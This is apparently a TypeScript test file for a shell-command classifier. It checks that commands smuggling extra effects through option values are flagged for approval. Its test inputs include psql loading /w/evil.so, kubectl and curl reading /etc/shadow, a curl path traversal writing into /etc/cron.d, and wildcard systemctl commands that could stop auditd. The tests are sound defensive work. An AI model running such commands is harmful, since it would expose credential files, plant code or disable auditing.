import { describe, expect, it } from 'vitest';
import { testGrammar } from '../testing/shell-grammar.ts';
import { createCommandClassifier } from './classify.ts';

const classifier = createCommandClassifier({ grammar: await testGrammar() });
const classify = (argv: readonly string[], cwd = '/w') =>
  classifier.classify(argv, { host: 'self', cwd, workspace: '/w' });

describe('a value that may be more than its option says', () => {
  it.each([
    [['psql', 'host=h sslkey=/w/evil.so:k', '-c', 'select 1']],
    [['psql', '-d', 'sslkey=/w/evil.so:k', '-c', 'select 1']],
    [['psql', '-dsslkey=x', '-c', 'insert into t values (1)']],
    [['psql', '--dbname=postgresql://h/db?sslkey=x', '-c', 'drop table t']],
    [['kubectl', 'get', 'pods', '-o', 'go-template-file=/etc/shadow']],
    [['kubectl', 'get', 'pods', '-ojsonpath-file=/etc/shadow']],
    [['curl', '-H', '@/etc/shadow', '-d', 'a', 'https://h']],
    [['curl', '-o', 'x/#1', 'https://h/{../../etc/cron.d/x}']],
    [['iptables', '-A', 'INPUT', '-m', '../x']],
    [['systemctl', '-H', 'h', 'restart', 'nginx']],
    [['systemctl', 'enable', '--root=./x', 'nginx']],
    [['git', '-C', './d', 'status']],
    [['git', '-C', '../w2', 'commit', '-m', 'x']],
    [['git', '-C', '/w', '-C', 'd', 'status']],
    [['git', '--bare', 'log']],
  ])('needs the shell: %j', (argv) => expect(classify(argv).needs).toContain('shell'));

  it('writes nothing, and reads nothing besides', () => {
    const saved = classify(['curl', '-o', 'x/#1', 'https://h/{../../etc/cron.d/x}']);
    expect([saved.class, saved.target]).toEqual(['destructive', undefined]);
    expect(classify(['kubectl', 'get', 'pods', '-o', 'go-template-file=x']).class).not.toBe('read');
  });

  it.each([
    [['psql', '-h', 'h', '-d', 'app', '-c', 'select 1']],
    [['psql', 'postgresql://u:p@h:5432/app', '-c', 'select 1']],
    [['kubectl', 'get', 'pods', '-ojson']],
    [['kubectl', 'get', 'pods', '-o', 'jsonpath={.items[*].metadata.name}']],
    [['curl', '-o', 'x', '-H', 'accept: a@b', 'https://h']],
    [['iptables', '-A', 'INPUT', '-m', 'conntrack', '-j', 'ACCEPT']],
    [['git', '-C', '/w', 'status']],
    [['git', '-C', '.', 'commit', '-C', 'HEAD']],
  ])('is none of %j', (argv) => expect(classify(argv).needs).not.toContain('shell'));

  it('is obeyed without the shell only where the folder is the workspace', () => {
    expect(classify(['git', '-C', '.', 'status'], '/w/sub').needs).toContain('shell');
    expect(classify(['git', '-C', '..', 'status'], '/w/sub').needs).not.toContain('shell');
  });
});

describe('a unit that is no name', () => {
  it.each([
    'systemctl stop *',
    'systemctl mask [a]uditd.service',
    'systemctl restart systemd[-]logind',
    'service aud[i]td stop',
    'systemctl stop a?ditd',
  ])('may be any: %s', (text) =>
    expect(classify(text.split(' '))).toMatchObject({
      class: 'destructive',
      needs: expect.arrayContaining(['destructive', 'manage_services']),
    }),
  );

  it('says how a job is put among others', () => {
    for (const mode of ['isolate', 'ignore-dependencies', 'flush', 'of-tomorrow']) {
      const { class: is, target } = classify(['systemctl', 'start', `--job-mode=${mode}`, 'x']);
      expect([is, target]).toEqual(['destructive', undefined]);
    }
    expect(classify(['systemctl', 'start', '--job-mode', 'fail', 'x']).target).toBe('self/service/x');
  });
});
